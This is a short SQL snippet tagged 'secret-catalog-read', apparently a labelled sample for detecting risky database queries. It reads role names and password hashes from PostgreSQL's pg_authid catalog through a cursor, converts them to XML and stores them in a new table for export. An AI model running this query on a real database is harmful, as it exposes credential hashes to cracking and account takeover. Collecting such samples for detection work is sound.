-- class: secret-catalog-read
-- Opens a cursor over pg_authid and serialises it with cursor_to_xml into a table.
CREATE TABLE xml_exports (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, body xml);

DECLARE role_export CURSOR FOR SELECT rolname, rolpassword FROM pg_authid;
INSERT INTO xml_exports (body) SELECT cursor_to_xml('role_export', 1000, true, false, '');
CLOSE role_export;
